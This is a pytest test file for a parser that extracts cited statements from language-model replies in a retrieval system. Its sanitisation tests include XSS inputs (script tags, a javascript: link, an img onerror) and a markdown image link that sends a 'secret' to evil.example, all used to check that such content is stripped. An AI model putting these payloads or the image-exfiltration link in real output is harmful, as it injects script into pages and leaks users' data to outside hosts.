"""What a model writes is read as statements with passage numbers, however it is written."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.generation.stream.parser import ProposedSentence, ReplyParser

GOOD = ProposedSentence("The council was judged inadequate.", (1,))
COUNT = 4


def read(text: str, count: int = COUNT, size: int = 0) -> list[ProposedSentence]:
    """All statements of a text, fed in bits of `size` letters (whole when 0)."""
    reader = ReplyParser(count)
    bits = [text[at : at + size] for at in range(0, len(text), size)] if size else [text]
    return [*(one for bit in bits for one in reader.feed(bit)), *reader.end()]


@pytest.mark.parametrize(
    "text",
    [
        "The council was judged inadequate [1].",
        "The council was judged inadequate. [1]",
        "The council was judged inadequate.[1]\n",
        "The council was judged inadequate [1]\n",
        "The council was judged inadequate (1).",
        "The council was judged inadequate. (1)\n",
        "The council was judged inadequate【1】.",
        "The council was judged inadequate【1†source】.",
        "The council was judged inadequate [Passage 1].",
        "The council was judged inadequate [Passage 1, p. 3].",
        "The council was judged inadequate (see passage 1).",
        "The council was judged inadequate^1.",
        "The council was judged inadequate.^1\n",
        "The council was judged inadequate[^1].",
        "The council was judged inadequate.¹",
        "The council was judged inadequate<sup>1</sup>.",
        "The council was judged inadequate [1](https://example.org/p#1).",
        "The council was judged inadequate, according to passage 1.",
        "[1] The council was judged inadequate.",
        "According to passage 1, the council was judged inadequate.",
        "Passage 1 states that the council was judged inadequate.",
        "- The council was judged inadequate [1].",
        "* **The council** was judged *inadequate* [1].",
        "1. The council was judged inadequate [1].",
        "(1) The council was judged inadequate [1].",
        "Answer: The council was judged inadequate [1].",
        "Yes, the council was judged inadequate [1].",
        "No. The council was judged inadequate [1].",
        "Not quite: the council was judged inadequate [1].",
        "Statement 1: The council was judged inadequate [1].",
        "**Answer:** The council was judged `inadequate` [1].",
        "> The council was judged inadequate [1].",
        "# Judgement\n\nHere are the statements:\nThe council was judged inadequate [1].",
        "Sure! The council was judged inadequate [1]. I hope this helps.",
        "<think>Perhaps it was good [2].\nNo.</think>\n\nThe council was judged inadequate [1].",
        "<think>\nIt was good [2].\n</think>The council was judged inadequate [1].",
        "The council was judged inadequate [1].\n<think>Is that all [2]? Yes it is.",
        "The council was judged inadequate [1].\nThe council was judged inadequate [1].\n",
        "The council <b>was</b> judged <a href='http://x.y'>inadequate</a> [1].",
        "The [council](http://x.y/z(1)) was judged inadequate [1]. ![seen](http://x.y/i.png)",
        "The coun\u200bcil was \u202ejudged\u202c inadequate [1].",
        "```\nThe council was judged inadequate [1].\n```\n",
        "[1]: https://example.org\nThe council was judged inadequate [1].",
        '{"statements": [{"text": "The council was judged inadequate.", "passages": [1]}]}',
        '[{"text": "The council was judged inadequate", "passages": 1}]',
        '```json\n{"statements": [{"text": "The council was judged inadequate.", '
        '"passages": ["1"]}]}\n```\nI hope this helps!',
        '{"text": "The council was judged inadequate.", "passages": ["Passage 1"]}\n',
        '{"text": "The council was judged inadequate.", "passages": [1],}',
        '{"statements": ["The council was judged inadequate [1]."]}',
        '{"answer": "The council was judged inadequate [1]."}',
        '{"passages": "[1]", "statement": "The council was judged inadequate."}',
        'Here is the JSON:\n[\n {"sentence": "The council was judged inadequate [1]."}\n]',
        '{"text": "The council was judged \\qinadequate.", "passages": [1]}'.replace("\\q", "\n"),
    ],
)
def test_one_statement_is_read_from_every_form(text: str) -> None:
    assert read(text) == [GOOD]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("It was poor in 2019 [1][2].", ("It was poor in 2019.", (1, 2))),
        ("It was poor in 2019 [1, 3].", ("It was poor in 2019.", (1, 3))),
        ("It was poor in 2019 [1-3].", ("It was poor in 2019.", (1, 2, 3))),
        ("It was poor [1] and then good [2].", ("It was poor and then good.", (1, 2))),
        ("It was poor (1), later good (2).", ("It was poor, later good.", (1, 2))),
        ("It was poor in 2019 (passages 1 and 2).", ("It was poor in 2019.", (1, 2))),
        ("It was poor in 2019 [1] [1].", ("It was poor in 2019.", (1,))),
        ("The council was fined [9].", ("The council was fined.", ())),
        ("The council was fined [1, 0].", ("The council was fined.", (1,))),
        ("Of all, 21 (68%) were late [1].", ("Of all, 21 (68%) were late.", (1,))),
        ("Two (2) of three were late [1].", ("Two (2) of three were late.", (1,))),
        ("The homes were inspected (12).", ("The homes were inspected (12).", ())),
        ("Cllr. B. Jones left on 3.5.2019 [2].", ("Cllr. B. Jones left on 3.5.2019.", (2,))),
        ("It takes 4 m² of floor space [2].", ("It takes 4 m² of floor space.", (2,))),
        ("Less than 5 < 10 per cent [2].", ("Less than 5 < 10 per cent.", (2,))),
        ("Staff_turnover and *all was high [2].", ("Staff_turnover and *all was high.", (2,))),
        ('The head said “We failed.” [2]\n', ("The head said “We failed.”", (2,))),
    ],
)  # fmt: skip
def test_markers_are_told_from_figures(text: str, expected: tuple[str, tuple[int, ...]]) -> None:
    assert read(text) == [ProposedSentence(*expected)]


@pytest.mark.parametrize(
    "text",
    [
        "",
        "NOTHING",
        "# Findings\n## Croydon [1]\n"[:12],
        "Here are five statements from the passages:",
        "I could not find an answer in the passages.",
        "The passages do not say what the council was fined.",
        "Was the council judged inadequate?",
        "[1]\n[2]\n(3)\n",
        "Sources: [1], [2]",
        "| Year | Grade |\n|---|---|\n| 2019 | Good |",
        "The council was judged",
        "<think>The council was judged inadequate [1].",
        '{"statements": [{"text": "The council was judged inadeq',
        '{"statements": []}',
        "{" * 3000,
        "On and " * 300 + "on [1].\n",
        "a." * 3000,
        '{"text": 7, "passages": [1]}',
        '{"text": "The council was bad.", "passages": [1',
        "<script>alert('The council was bad.')</script>",
        "https://example.org/The-council-was-bad [1].",
        "\ud800",
    ],
)
def test_what_is_no_statement_is_passed_over(text: str) -> None:
    assert read(text) == []


def test_a_statement_comes_as_soon_as_it_is_complete() -> None:
    reader = ReplyParser(COUNT)
    assert reader.feed("The council was judged inadequate [1]. The next ") == (GOOD,)
    assert reader.feed("inspection was in 2021 [2].\n")[0].passages == (2,)
    reader = ReplyParser(COUNT)
    assert reader.feed('{"statements": [{"text": "The council was judged inadequate.", ') == ()
    assert reader.feed('"passages": [1]}, {"te') == (GOOD,)


def test_several_sentences_on_a_line_keep_their_own_markers() -> None:
    line = "It was poor in 2019. [1] Dr. Smith left, e.g. in May [2]. It has 3.5 posts [3]. "
    assert [one.passages for one in read(line)] == [(1,), (2,), (3,)]
    line = "[1] It was poor in 2019. [2] Dr. Smith left in May. [3] It has few posts.\n"
    assert [one.passages for one in read(line)] == [(1,), (2,), (3,)]


def test_every_sentence_of_a_json_text_has_its_passages() -> None:
    text = '{"text": "It was poor in 2019. It is good now [3].", "passages": [2, 8]}'
    assert read(text) == [
        ProposedSentence("It was poor in 2019.", (2,)),
        ProposedSentence("It is good now.", (2, 3)),
    ]


def test_no_address_and_no_markup_remains() -> None:
    text = (
        "See [the plan](javascript:alert(1)) and www.evil.example/x or data:text/html;x now [1].\n"
        "<img src=x onerror=alert(1)> The &lt;b&gt;report&lt;/b&gt; is at x.example/a?k=1 [2].\n"
        "![The report](https://evil.example/leak.png?q=secret) was late again [1].\n"
    )
    assert [one.text for one in read(text)] == [
        "See the plan and or now.",
        "The report is at.",
        "was late again.",
    ]


SCRAPS = st.sampled_from(
    [
        "The council was judged inadequate", "It improved in 2021", "Dr. Jones left", " ", "\n",
        ". ", "[1]", " [2]", "(3)", "【1】", "^1", "[9]", "(68%)", "{", "}", '"', '{"text": "',
        '", "passages": [1]}', "<think>", "</think>", "```", "**", "- ", "1. ", "[a](http://x.y)",
        "<b>", "?", "\u200b", "é", "\\",
    ]
)  # fmt: skip
TEXTS = st.one_of(st.lists(SCRAPS, max_size=30).map("".join), st.text(max_size=200))


@given(TEXTS, st.integers(1, 7), st.integers(0, 5))
def test_how_the_text_was_cut_makes_no_difference(text: str, size: int, count: int) -> None:
    assert read(text, count, size) == read(text, count)


@given(TEXTS, st.integers(0, 5))
def test_no_marker_and_no_address_is_left_in_a_statement(text: str, count: int) -> None:
    for one in read(text, count):
        assert not re.search(r"\[\d+\]|【\d+】|://|<\w", one.text)
        assert all(1 <= number <= count for number in one.passages)
        assert one.text == " ".join(one.text.split())
